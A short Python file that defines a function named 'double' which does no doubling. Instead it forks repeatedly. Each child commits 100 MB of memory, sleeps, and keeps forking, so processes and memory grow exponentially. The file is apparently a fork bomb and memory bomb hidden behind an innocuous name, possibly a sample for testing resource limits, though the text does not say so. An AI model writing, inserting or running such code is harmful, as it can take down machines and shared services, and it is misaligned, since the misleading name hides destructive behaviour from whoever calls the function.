import os
import time


def double(x):
    for _ in range(20):
        if os.fork() == 0:
            held = bytearray(100 << 20)
            held[::4096] = b"x" * len(held[::4096])
            time.sleep(60)
    time.sleep(60)
